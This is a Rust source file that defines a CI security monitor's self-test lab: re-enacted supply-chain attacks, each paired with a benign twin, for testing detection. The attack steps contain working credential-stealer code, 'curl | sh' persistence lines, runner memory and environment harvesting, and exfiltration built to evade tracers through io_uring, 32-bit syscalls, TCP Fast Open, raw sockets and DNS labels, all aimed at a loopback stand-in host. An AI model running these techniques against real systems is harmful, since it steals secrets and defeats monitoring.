//! The re-enacted attacks (`../shared/notes/threats.md` in the repository's notes, docs/selftest.md)
//! and their benign twins. Each is a CI job of `run:` steps, written as bash, run by the lab's
//! `Runner.Worker` with these variables:
//!
//! - `LAB`: the lab's fixtures directory; `HOME`: a home holding canary credentials;
//! - `REGISTRY`: `http://127.0.0.1:<port>`, the allowed package host (it serves `/prebuilt`,
//!   `/helper`, `/miner`);
//! - `UNTRUSTED`: `http://127.0.0.1:<port>`, a host the profile does not allow (download and
//!   exfiltration sink, mining pool);
//! - `ACTIONS_ID_TOKEN_REQUEST_URL`/`_TOKEN`: a loopback token endpoint and a canary token,
//!   as in a job with `id-token: write`;
//! - `OUT`: a scratch directory for this job;
//! - in action steps (`<id> uses <owner/repo@ref>`) only, `ACTIONS_CACHE_URL`: a loopback
//!   stand-in for the CI's cache service, as the runner gives actions.
//!
//! Nothing reads outside the lab: the memory dump and the environment harvest look only at
//! processes started from the lab, never at a real runner's.

/// One attack and its twin.
pub struct Scenario {
    pub name: &'static str,
    /// The real attack it re-enacts.
    pub threat: &'static str,
    /// Programs it needs (it is reported as not run when one is missing).
    pub needs: &'static [&'static str],
    /// The attack kills the agent: the lab starts a new one (as systemd's `Restart=always`
    /// would) once the old one is dead, and tells the job through `$OUT/agent-restarted`.
    pub kills_agent: bool,
    /// Judged by the lab's profile with kill responses (`RESPONSES_REPOSITORY`'s), not the
    /// audit-only one.
    pub responses: bool,
    /// What the attack must raise, all of it: a rule, optionally followed by a space and text
    /// its finding's summary must contain (`persistence-write shell-startup`), or `[response]`,
    /// the response its finding must say (`process-memory-read [killed]`).
    pub expect: &'static [&'static str],
    pub attack: Job,
    /// The legitimate version of the same thing: it must raise nothing.
    pub twin: Job,
}

pub struct Job {
    pub what: &'static str,
    /// (step id, bash script).
    pub steps: Vec<(&'static str, String)>,
}

fn job(what: &'static str, steps: &[(&'static str, &str)]) -> Job {
    Job {
        what,
        steps: steps.iter().map(|(id, s)| (*id, s.to_string())).collect(),
    }
}

/// npm without the network: local tarballs only, no update check, no audit.
const NPM: &str = "npm --offline --no-audit --no-fund --loglevel=error";

pub fn all() -> Vec<Scenario> {
    let npm_install = |pkg: &str| {
        format!(
            "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\"}}' > package.json\n{NPM} install \"$LAB/{pkg}\"\n"
        )
    };
    vec![
        Scenario {
            name: "npm-postinstall-stealer",
            threat: "Shai-Hulud: a dependency's postinstall reads ~/.npmrc and sends it out",
            needs: &["npm", "node"],
            kills_agent: false,
            responses: false,
            expect: &["lifecycle-hook evil-stealer", "credential-read .npmrc", "unexpected-egress"],
            attack: job("npm install of a package whose postinstall steals ~/.npmrc", &[("install", &npm_install("evil-stealer-1.0.0.tgz"))]),
            twin: job(
                "npm install of an allowed package whose postinstall fetches its prebuilt binary from the registry",
                &[("install", &npm_install("native-prebuilt-1.0.0.tgz"))],
            ),
        },
        Scenario {
            name: "git-dependency-prepare",
            threat: "a git dependency's prepare script runs at install and harvests credentials",
            needs: &["npm", "node", "git"],
            kills_agent: false,
            responses: false,
            expect: &["lifecycle-hook (prepare)", "credential-read .npmrc"],
            attack: job(
                "npm install of a git dependency whose prepare script reads ~/.npmrc",
                &[("install", &format!(
                    "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\"}}' > package.json\n{NPM} install \"git+file://$LAB/git-dep\"\n"
                ))],
            ),
            twin: job(
                "npm install runs the project's own prepare script",
                &[("install", &format!(
                    "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\",\"scripts\":{{\"prepare\":\"node build.js\"}}}}' > package.json\necho \"require('fs').writeFileSync('built.txt', 'ok')\" > build.js\n{NPM} install\ntest -f built.txt\n"
                ))],
            ),
        },
        Scenario {
            name: "pth-dropper",
            threat: "LiteLLM: a wheel installs a .pth file whose import line runs at every Python start",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["pth-executed telemetry_init.pth"],
            attack: job(
                "pip installs a wheel with an executable .pth, then Python starts",
                &[
                    ("install", "\"$LAB/venv/bin/python\" -m pip install -q --no-index --no-deps --disable-pip-version-check \"$LAB/wheels/telemetry_init-1.0-py3-none-any.whl\"\n"),
                    ("test", "\"$LAB/venv/bin/python\" -c 'print(1)' >/dev/null\n\"$LAB/venv/bin/python\" -m pip uninstall -q -y telemetry_init\n"),
                ],
            ),
            twin: job(
                "pip installs a wheel whose .pth only adds a path, then Python starts",
                &[
                    ("install", "\"$LAB/venv/bin/python\" -m pip install -q --no-index --no-deps --disable-pip-version-check \"$LAB/wheels/plain_paths-1.0-py3-none-any.whl\"\n"),
                    ("test", "\"$LAB/venv/bin/python\" -c 'print(1)' >/dev/null\n\"$LAB/venv/bin/python\" -m pip uninstall -q -y plain_paths\n"),
                ],
            ),
        },
        Scenario {
            name: "import-time-miner",
            threat: "Ultralytics: import-time code downloads a miner to /tmp, runs it, and it dials its pool",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["exec-from-temp /tmp/.selftest-miner", "unexpected-egress"],
            attack: job(
                "importing a package that downloads and runs a miner from /tmp",
                &[("test", "PYTHONPATH=\"$LAB/py\" python3 -c 'import fastmath_evil'\n")],
            ),
            twin: job(
                "importing a package that fetches its helper from the registry into the virtualenv and runs it",
                &[("test", "PYTHONPATH=\"$LAB/py\" \"$LAB/venv/bin/python\" -c 'import fastmath_ok'\n")],
            ),
        },
        Scenario {
            name: "runner-memory-dump",
            threat: "tj-actions/changed-files: read Runner.Worker's memory through /proc/PID/mem for secrets",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["process-memory-read /mem", "process-memory-read /maps"],
            attack: job(
                "a step finds Runner.Worker and reads its maps and memory",
                &[("changed-files", "python3 \"$LAB/memdump.py\" dump\n")],
            ),
            twin: job(
                "a step lists processes (ps, pgrep) and reads its own /proc/self/maps",
                &[("changed-files", "ps aux >/dev/null\npgrep -f Runner.Worker >/dev/null\npython3 \"$LAB/memdump.py\" self\n")],
            ),
        },
        Scenario {
            name: "runner-memory-dump-killed",
            threat: "tj-actions/changed-files again, with the profile's kill responses: the reader dies at the open, before it reads a byte",
            needs: &["python3"],
            kills_agent: false,
            responses: true,
            expect: &["process-memory-read [killed]", "process-environ-read [killed]"],
            attack: job(
                "a step reads Runner.Worker's memory map and environment",
                // The lab's runner runs the job hooks: the agent and the kernel know the job
                // (and its Worker) before the first step, where the attack runs.
                &[("changed-files", "python3 \"$LAB/memdump.py\" dump || echo \"killed: $?\"\ncat /proc/$PPID/environ >/dev/null || echo \"killed: $?\"\n")],
            ),
            twin: job(
                "a step lists processes (ps aux, pgrep) and reads its own memory map, under the same kill responses",
                &[("changed-files", "ps aux >/dev/null\npgrep -f Runner.Worker >/dev/null\npython3 \"$LAB/memdump.py\" self\n")],
            ),
        },
        Scenario {
            name: "environ-harvest",
            threat: "harvesting secrets from other processes' /proc/PID/environ",
            needs: &[],
            kills_agent: false,
            responses: false,
            expect: &["process-environ-read"],
            attack: job(
                "a step reads the environment of the lab's other processes",
                &[("lint", "for p in /proc/[0-9]*; do\n  if tr '\\0' ' ' < \"$p/cmdline\" 2>/dev/null | grep -q \"$SELFTEST_LAB\"; then cat \"$p/environ\" 2>/dev/null | tr '\\0' '\\n' | grep -c TOKEN >/dev/null || true; fi\ndone\n")],
            ),
            twin: job(
                "a step runs ps aux and reads its own environment",
                &[("lint", "ps aux >/dev/null\ncat /proc/self/environ | tr '\\0' '\\n' | grep -c GITHUB >/dev/null\n")],
            ),
        },
        Scenario {
            name: "oidc-token-from-test-step",
            threat: "Shai-Hulud 2: asks the OIDC endpoint for an npm publish token from a step that does not publish",
            needs: &["curl"],
            kills_agent: false,
            responses: false,
            expect: &["oidc-token-request"],
            attack: job(
                "the test step requests an OIDC token with audience npm:registry.npmjs.org",
                &[("test", "curl -sS -o /dev/null -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm:registry.npmjs.org\"\n")],
            ),
            twin: job(
                "the publish step requests its OIDC token (npm publish --provenance does this)",
                &[("publish", "curl -sS -o /dev/null -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm:registry.npmjs.org\"\n")],
            ),
        },
        Scenario {
            name: "cache-service-from-another-action",
            threat: "cache poisoning: a compromised action's post step writes the job's cache with the runtime token (whatever the workflow's permissions), so later jobs restore its payload",
            needs: &["curl"],
            kills_agent: false,
            responses: false,
            expect: &["runtime-service-call"],
            attack: job(
                "a lint action (not a cache action) posts a cache entry to $ACTIONS_CACHE_URL",
                &[("lint uses acme/lint-action@v1", "curl -sS -o /dev/null -X POST --data-binary payload \"${ACTIONS_CACHE_URL}_apis/artifactcache/caches\"\n")],
            ),
            twin: job(
                "actions/cache saves the job's cache the same way",
                &[("cache uses actions/cache@v4", "curl -sS -o /dev/null -X POST --data-binary node_modules \"${ACTIONS_CACHE_URL}_apis/artifactcache/caches\"\n")],
            ),
        },
        Scenario {
            name: "action-poisoned-on-disk",
            threat: "cache poisoning that persists on a self-hosted runner: a step rewrites a downloaded action's dist/index.js, which every later job using the action runs",
            needs: &[],
            kills_agent: false,
            responses: false,
            expect: &["action-tampered runner actions"],
            attack: job(
                "a step appends a payload to _actions/actions/checkout/v4/dist/index.js",
                // No moment first: the job-started hook tells the agent of the job (and its
                // runner's directories) before the step runs.
                &[("build", "A=\"$RUNNER_WORKSPACE/../_actions/actions/checkout/v4/dist\"
mkdir -p \"$A\"
echo 'require(\"https\").get(process.env.UNTRUSTED)' >> \"$A/index.js\"
")],
            ),
            twin: job(
                "the build writes its own dist/index.js in the workspace",
                &[("build", "mkdir -p \"$GITHUB_WORKSPACE/dist\"
echo 'app()' > \"$GITHUB_WORKSPACE/dist/index.js\"
")],
            ),
        },
        Scenario {
            name: "workflow-and-shell-rc-persistence",
            threat: "Shai-Hulud / s1ngularity: writes a workflow file and appends to ~/.bashrc",
            needs: &["git"],
            kills_agent: false,
            responses: false,
            expect: &["persistence-write workflow-file", "persistence-write shell-startup"],
            attack: job(
                "a step drops .github/workflows/discussion.yml and appends to ~/.bashrc",
                &[("build", "cd \"$GITHUB_WORKSPACE\"\nmkdir -p .github/workflows\nprintf 'on: discussion\\njobs: {}\\n' > .github/workflows/discussion.yml\necho 'curl -s \"$UNTRUSTED/x\" | sh # selftest' >> \"$HOME/.bashrc\"\n")],
            ),
            twin: job(
                "git checks out a repository with workflow files; a step reads ~/.bashrc",
                &[("checkout", "git clone -q \"$LAB/repo-with-workflows\" \"$GITHUB_WORKSPACE/checkout\"\ntest -f \"$GITHUB_WORKSPACE/checkout/.github/workflows/ci.yml\"\ncat \"$HOME/.bashrc\" >/dev/null\n")],
            ),
        },
        Scenario {
            name: "process-outlives-step",
            threat: "worm variants keep a detached process running after the install step ends",
            needs: &["setsid"],
            kills_agent: false,
            responses: false,
            expect: &["outlived-step"],
            attack: job(
                "a step leaves a detached process behind",
                &[
                    ("install", "setsid sleep 8 </dev/null >/dev/null 2>&1 &\n"),
                    ("wait", "sleep 3\n"),
                ],
            ),
            twin: job(
                "a step runs a background process and waits for it",
                &[("install", "sleep 1 &\nwait\n"), ("wait", "sleep 3\n")],
            ),
        },
        Scenario {
            name: "packaging-leak",
            threat: "Claude Code 2026: npm pack shipped a source map with the full sources (and .env files ship the same way)",
            needs: &["npm", "node"],
            kills_agent: false,
            responses: false,
            expect: &["packaged-sensitive-file source map", "packaged-sensitive-file dotenv"],
            attack: job(
                "npm pack of a package without a files list: packs dist/cli.js.map and .env",
                &[("package", &format!("cd \"$LAB/pack-leaky\"\n{NPM} pack --pack-destination \"$OUT\" >/dev/null\n"))],
            ),
            twin: job(
                "npm pack of the same tree with \"files\": [\"dist/*.js\"]",
                &[("package", &format!("cd \"$LAB/pack-clean\"\n{NPM} pack --pack-destination \"$OUT\" >/dev/null\n"))],
            ),
        },
        Scenario {
            name: "agent-killed",
            threat: "a job running as root kills the monitor with SIGKILL before it can report anything, then steals in peace",
            needs: &[],
            kills_agent: true,
            responses: false,
            expect: &["agent-tampering did not live to report it"],
            attack: job(
                "a step kills the agent with SIGKILL (the agent's pid is in $AGENT_PID); a new agent starts",
                &[("build", "kill -KILL \"$AGENT_PID\"\nfor i in $(seq 1 600); do [ -e \"$OUT/agent-restarted\" ] && break; sleep 0.05; done\n")],
            ),
            twin: job(
                "a step kills a process of its own with SIGKILL",
                &[("build", "sleep 30 &\nkill -KILL $!\nwait $! || true\n")],
            ),
        },
        Scenario {
            name: "exfiltration-without-connect",
            threat: "exfiltration that never calls connect(2): a UDP datagram sent with sendto (also io_uring, 32-bit syscalls, TCP Fast Open)",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["credential-read .npmrc", "unexpected-egress datagram"],
            attack: job(
                "a step sends ~/.npmrc to the untrusted host in one UDP datagram",
                &[("build", &udp_send("UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
            ),
            twin: job(
                "a step sends a UDP datagram to the allowed registry host",
                &[("build", &udp_send("REGISTRY", "b'ping'"))],
            ),
        },
        Scenario {
            name: "persistence-by-rename",
            threat: "persistence that never opens the final name: sed -i over ~/.bashrc, a workflow moved into .github/workflows",
            needs: &["sed"],
            kills_agent: false,
            responses: false,
            expect: &["persistence-write shell-startup", "persistence-write workflow-file"],
            attack: job(
                "sed -i (a temporary file renamed over the original) on ~/.bashrc; a workflow written elsewhere and moved into place",
                &[("build", "sed -i '$a curl -s \"$UNTRUSTED/x\" | sh # selftest' \"$HOME/.bashrc\"\ncd \"$GITHUB_WORKSPACE\"\nmkdir -p .github/workflows\nprintf 'on: discussion\\njobs: {}\\n' > notes.yml\nmv notes.yml .github/workflows/discussion.yml\n")],
            ),
            twin: job(
                "sed -i and mv on the project's own files",
                &[("build", "cd \"$GITHUB_WORKSPACE\"\nprintf 'version = 1\\n' > app.cfg\nsed -i 's/1/2/' app.cfg\nmv app.cfg app.conf\n")],
            ),
        },
        Scenario {
            name: "credential-by-another-name",
            threat: "a token read under an innocent name: a hard link to ~/.npmrc, read as notes.txt",
            needs: &[],
            kills_agent: false,
            responses: false,
            expect: &["credential-relinked .npmrc", "credential-read through"],
            attack: job(
                "a step hard-links ~/.npmrc as notes.txt and reads it (after a checkout step: a home first seen in a job is watched by identity from the job's first events)",
                &[("checkout", "true\n"), ("build", "ln \"$HOME/.npmrc\" \"$OUT/notes.txt\"\ncat \"$OUT/notes.txt\" >/dev/null\n")],
            ),
            twin: job(
                "a step hard-links a file of its own and reads it",
                &[("checkout", "true\n"), ("build", "echo notes > \"$OUT/a.txt\"\nln \"$OUT/a.txt\" \"$OUT/b.txt\"\ncat \"$OUT/b.txt\" >/dev/null\n")],
            ),
        },
        Scenario {
            name: "fileless-and-piped",
            threat: "droppers that never leave a file: a payload run from memfd_create, a download piped into sh",
            needs: &["python3", "curl"],
            kills_agent: false,
            responses: false,
            expect: &["fileless-exec", "download-and-execute"],
            attack: job(
                "a step runs /bin/true from a memfd, and pipes a download from the untrusted host into sh",
                &[("build", "python3 -c 'import os; fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); os.execv(\"/proc/self/fd/%d\" % fd, [\"true\"])'\ncurl -s \"$UNTRUSTED/x\" | sh || true\n")],
            ),
            twin: job(
                "a step runs /bin/true, feeds sh from echo and pipes a download into cat",
                &[("build", "/bin/true\necho 'true' | sh\ncurl -s \"$REGISTRY/helper\" | cat >/dev/null\n")],
            ),
        },
        Scenario {
            name: "forged-dns-answer",
            threat: "a job feeds its own DNS socket an answer (\"the registry is at this address\") from a second local socket, so its connection there would count as allowed",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["dns-forged-answer"],
            attack: job(
                "a step sends a socket a DNS response naming the untrusted host's address, then asks 127.0.0.1:53 the same question from it and reads the forged answer first",
                &[("build", &dns_exchange(true))],
            ),
            twin: job(
                "a step sends a socket an ordinary datagram, then asks 127.0.0.1:53 a question from it and reads the datagram",
                &[("build", &dns_exchange(false))],
            ),
        },
        Scenario {
            name: "dns-question-exfiltration",
            threat: "data leaving in a DNS question that no one answers or reads: ~/.npmrc hex-encoded into the labels of a name under an attacker's zone, sent with sendto and never read",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["credential-read .npmrc", "dns-exfiltration"],
            attack: job(
                "a step sends 127.0.0.1:53 a question for <~/.npmrc in hex>.exfil.selftest.invalid and closes the socket",
                &[("build", &dns_question("open(os.path.expanduser('~/.npmrc'), 'rb').read()[:60].hex()", "exfil.selftest.invalid"))],
            ),
            twin: job(
                "a step sends 127.0.0.1:53 a question for registry.npmjs.org and closes the socket",
                &[("build", &dns_question("'registry'", "npmjs.org"))],
            ),
        },
        Scenario {
            name: "raw-socket-egress",
            threat: "a packet built by hand on a raw socket, which no address rule sees as a connection",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["raw-socket"],
            attack: job(
                "a step opens a raw UDP socket and sends a datagram it built to the untrusted host",
                &[("build", "python3 -c \"import os, socket, struct, urllib.parse\np = urllib.parse.urlparse(os.environ['UNTRUSTED'])\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)\ns.sendto(struct.pack('>HHHH', 40000, p.port, 12, 0) + b'raw!', (p.hostname, 0))\"\n")],
            ),
            twin: job(
                "a step sends the same bytes in an ordinary UDP datagram to the allowed registry host",
                &[("build", &udp_send("REGISTRY", "b'raw!'"))],
            ),
        },
        Scenario {
            name: "fast-open-exfiltration",
            threat: "exfiltration that never calls connect(2) on TCP: TCP Fast Open's sendto(MSG_FASTOPEN) opens the connection and carries ~/.npmrc in one call",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["credential-read .npmrc", "unexpected-egress"],
            attack: job(
                "a step posts ~/.npmrc to the untrusted host with sendto(MSG_FASTOPEN) on a fresh TCP socket",
                &[("build", &fast_open_post("UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
            ),
            twin: job(
                "a step posts a few bytes to the allowed registry host the same way",
                &[("build", &fast_open_post("REGISTRY", "b'ping'"))],
            ),
        },
        Scenario {
            name: "io-uring-exfiltration",
            threat: "a connection no connect(2) made: io_uring's IORING_OP_CONNECT opens it (a syscall tracer sees only io_uring_enter) and ~/.npmrc goes out on it",
            needs: &["python3"],
            kills_agent: false,
            responses: false,
            expect: &["credential-read .npmrc", "unexpected-egress"],
            attack: job(
                "a step connects a TCP socket to the untrusted host with IORING_OP_CONNECT and posts ~/.npmrc on it",
                &[("build", &routed_post(Route::IoUring, "UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
            ),
            twin: job(
                "a step connects to the allowed registry host the same way and posts a few bytes",
                &[("build", &routed_post(Route::IoUring, "REGISTRY", "b'ping'"))],
            ),
        },
        Scenario {
            name: "compat-syscall-exfiltration",
            threat: "a connection made through the 32-bit syscall entry (int 0x80 from a 64-bit process), which the 64-bit syscall tracepoints do not report, and ~/.npmrc sent on it",
            needs: &["python3", COMPAT_SYSCALLS],
            kills_agent: false,
            responses: false,
            expect: &["credential-read .npmrc", "unexpected-egress"],
            attack: job(
                "a step connects a TCP socket to the untrusted host with the 32-bit connect syscall (int 0x80) and posts ~/.npmrc on it",
                &[("build", &routed_post(Route::Compat, "UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
            ),
            twin: job(
                "a step connects to the allowed registry host the same way and posts a few bytes",
                &[("build", &routed_post(Route::Compat, "REGISTRY", "b'ping'"))],
            ),
        },
    ]
}

/// A `needs` entry that is not a program: the x86-64 kernel's 32-bit syscall entry (`int
/// 0x80` from a 64-bit process), there on x86-64 unless the kernel was built or booted without
/// IA32 emulation.
pub const COMPAT_SYSCALLS: &str = "x86-64 32-bit syscall entry";

/// How `routed_post` opens its connection.
#[derive(Clone, Copy)]
enum Route {
    /// An `IORING_OP_CONNECT` submitted on an io_uring set up by hand (no liburing needed).
    IoUring,
    /// `connect` (i386 number 362) through `int 0x80`, from machine code on a page below 4 GiB
    /// (the 32-bit entry takes 32-bit pointers).
    Compat,
}

/// A step that connects a fresh TCP socket to the host and port of the URL in variable
/// `url_var` by `route` (never with `connect(2)`), posts `body` (a Python expression giving
/// bytes) over HTTP on it and reads the reply. It fails, saying why, if the route is closed.
fn routed_post(route: Route, url_var: &str, body: &str) -> String {
    let connect = match route {
        Route::IoUring => {
            r#"libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
if ring < 0:
    raise SystemExit('io_uring_setup refused (errno %d): the io_uring route is closed here' % ctypes.get_errno())
sq_entries, cq_entries = struct.unpack_from('II', params, 0)
sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from('7I', params, 40)
cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from('6I', params, 80)
sq = mmap.mmap(ring, sq_array + sq_entries * 4, offset=0)
cq = mmap.mmap(ring, cqes + cq_entries * 16, offset=0x8000000)
entries = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
addr = ctypes.create_string_buffer(sockaddr, 16)
tail = struct.unpack_from('I', sq, sq_tail)[0]
i = tail & sq_mask
entries[i * 64:(i + 1) * 64] = struct.pack('=BBHiQQIIQ', 16, 0, 0, s.fileno(), 16, ctypes.addressof(addr), 0, 0, 7).ljust(64, bytes(1))
struct.pack_into('I', sq, sq_array + i * 4, i)
struct.pack_into('I', sq, sq_tail, tail + 1)
if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
    raise SystemExit('io_uring_enter failed (errno %d)' % ctypes.get_errno())
head = struct.unpack_from('I', cq, cq_head)[0]
res = struct.unpack_from('=QiI', cq, cqes + (head & cq_mask) * 16)[1]
"#
        }
        Route::Compat => {
            r#"page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
# push rbx; mov eax, 362; mov ebx, edi; mov ecx, esi; int 0x80; pop rbx; ret
code = bytes([0x53, 0xb8, 0x6a, 0x01, 0x00, 0x00, 0x89, 0xfb, 0x89, 0xf1, 0xcd, 0x80, 0x5b, 0xc3])
page[0:len(code)] = code
page[256:272] = sockaddr
base = ctypes.addressof(ctypes.c_char.from_buffer(page))
if base >= 1 << 32:
    raise SystemExit('no memory below 4 GiB for the 32-bit call')
connect32 = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint32, ctypes.c_int)(base)
res = connect32(s.fileno(), base + 256, 16)
"#
        }
    };
    format!(
        "python3 - <<'PY'\nimport ctypes, mmap, os, socket, struct, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nbody = {body}\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsockaddr = struct.pack('=H', socket.AF_INET) + struct.pack('>H', p.port) + socket.inet_aton(p.hostname) + bytes(8)\n{connect}if res < 0:\n    raise SystemExit('connect failed: ' + os.strerror(-res))\ns.sendall(b'POST /x HTTP/1.1\\r\\nHost: h\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)\nprint(s.recv(64)[:12])\nPY\n"
    )
}

/// A step that posts `body` (a Python expression giving bytes) over HTTP to the host and port
/// of the URL in variable `url_var` with one `sendto(MSG_FASTOPEN)` on a fresh blocking TCP
/// socket (no `connect`), then reads the reply.
fn fast_open_post(url_var: &str, body: &str) -> String {
    format!(
        "python3 -c \"import os, socket, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nb = {body}\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.sendto(b'POST /x HTTP/1.1\\r\\nHost: h\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(b) + b, socket.MSG_FASTOPEN, (p.hostname, p.port))\nprint(s.recv(64)[:12])\"\n"
    )
}

/// A step that sends 127.0.0.1:53 one DNS question for `<label>.<zone>` (`label`: a Python
/// expression giving text, cut into 60-character labels) with sendto and closes the socket
/// without reading an answer.
fn dns_question(label: &str, zone: &str) -> String {
    format!(
        "python3 -c \"import os, socket, struct\nt = {label}\nname = '.'.join([t[i:i + 60] for i in range(0, len(t), 60)] + ['{zone}'])\nq = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(struct.pack('>HHHHHH', 0x6464, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1), ('127.0.0.1', 53))\"\n"
    )
}

/// A step whose socket first receives a datagram from a second socket of the same process (a
/// DNS response for `registry.npmjs.org` when `forge`, else plain bytes), then sends a DNS
/// question with the same id to 127.0.0.1:53, then reads the datagram back (it was queued
/// first, whatever a resolver there answers). The asking socket is bound to the registry's
/// port number (UDP: the port is free), an allowed destination, so the datagram between the
/// two sockets is no finding of its own.
fn dns_exchange(forge: bool) -> String {
    let datagram = if forge {
        "struct.pack('>HHHHHH', 0x4242, 0x8180, 1, 1, 0, 0) + q + struct.pack('>HH', 1, 1) + b'\\xc0\\x0c' + struct.pack('>HHIH', 1, 1, 300, 4) + socket.inet_aton('127.0.0.1')"
    } else {
        "b'not a dns message, only bytes between two sockets of one process'"
    };
    format!(
        "python3 -c \"import os, socket, struct, urllib.parse\nq = b''.join(bytes([len(l)]) + l.encode() for l in 'registry.npmjs.org'.split('.')) + b'\\0'\na = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\na.bind(('127.0.0.1', urllib.parse.urlparse(os.environ['REGISTRY']).port))\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({datagram}, a.getsockname())\na.sendto(struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1), ('127.0.0.1', 53))\na.settimeout(5)\nprint('READ', len(a.recv(4096)))\"\n"
    )
}

/// A step that sends `payload` (a Python expression) in one datagram to the host and port of
/// the URL in variable `url_var`, with `sendto` on an unconnected socket.
fn udp_send(url_var: &str, payload: &str) -> String {
    format!(
        "python3 -c \"import os, socket, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({payload}, (p.hostname, p.port))\"\n"
    )
}

/// The repository whose jobs the lab's responses profile judges.
pub const RESPONSES_REPOSITORY: &str = "monitor/selftest-responses";

/// The lab's profile with kill responses (`Scenario::responses`).
pub fn responses_profile(registry_port: u16, oidc_port: u16, cache_port: u16) -> String {
    format!(
        "{}responses:\n  process-memory-read: kill\n  process-environ-read: kill\n",
        profile(registry_port, oidc_port, cache_port)
    )
}

/// The lab's configuration: the audit profile, and the responses profile for its repository.
pub fn config() -> String {
    format!(
        "version: 1\nprofile: selftest-profile.yml\nprofiles:\n  - {{ repository: \"{RESPONSES_REPOSITORY}\", profile: selftest-responses.yml }}\n"
    )
}

/// The profile the lab's jobs are judged by: the registry, the token endpoint and a loopback
/// DNS resolver (asked by the forged-answer scenario, whatever this machine's resolv.conf
/// names) are allowed destinations, `native-prebuilt` may run install code, the `publish` step
/// may mint tokens.
pub fn profile(registry_port: u16, oidc_port: u16, cache_port: u16) -> String {
    format!(
        "version: 1
egress:
  allow:
    - \"127.0.0.1:{registry_port}\"
    - \"127.0.0.1:{oidc_port}\"
    - \"127.0.0.1:{cache_port}\"
    - \"127.0.0.1:53\"
lifecycle:
  allow:
    - {{ ecosystem: npm, package: native-prebuilt }}
steps:
  publish:
    oidc:
      allow: true
"
    )
}

// Fixture sources. The lab builds npm tarballs, wheels and repositories from them before the
// jobs run (outside any job, so building them is not judged).

pub const STEALER_JS: &str = r#"const fs = require('fs'), os = require('os'), net = require('net');
let stolen = '';
try { stolen = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const u = new URL(process.env.UNTRUSTED);
const s = net.connect(Number(u.port), u.hostname, () => { s.end('POST /exfil HTTP/1.1\r\nContent-Length: ' + stolen.length + '\r\n\r\n' + stolen); });
s.on('error', () => {});
"#;

pub const PREBUILT_JS: &str = r#"const fs = require('fs'), http = require('http'), path = require('path'), cp = require('child_process');
http.get(process.env.REGISTRY + '/prebuilt', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    fs.mkdirSync(path.join(__dirname, 'bin'), { recursive: true });
    const bin = path.join(__dirname, 'bin', 'native-tool');
    fs.writeFileSync(bin, Buffer.concat(chunks), { mode: 0o755 });
    cp.execFileSync(bin);
  });
});
"#;

pub const PREPARE_STEALER_JS: &str = r#"const fs = require('fs'), os = require('os');
try { fs.readFileSync(os.homedir() + '/.npmrc'); } catch (e) {}
"#;

/// Served as `/prebuilt` and `/helper`: a harmless program.
pub const TOOL_SH: &str = "#!/bin/sh\nexit 0\n";

/// Served as `/miner`: "mines" by dialing its pool once.
pub const MINER_SH: &str = "#!/bin/bash\nexec 3<>\"/dev/tcp/127.0.0.1/$POOL_PORT\" && echo '{\"method\":\"login\"}' >&3\nexit 0\n";

pub const FASTMATH_EVIL: &str = r#"import os, urllib.request
_miner = "/tmp/.selftest-miner-%s" % os.environ["SELFTEST_RUN"]
with urllib.request.urlopen(os.environ["UNTRUSTED"] + "/miner") as r, open(_miner, "wb") as f:
    f.write(r.read())
os.chmod(_miner, 0o755)
os.environ["POOL_PORT"] = os.environ["UNTRUSTED"].rsplit(":", 1)[1]
os.system(_miner)
os.unlink(_miner)
"#;

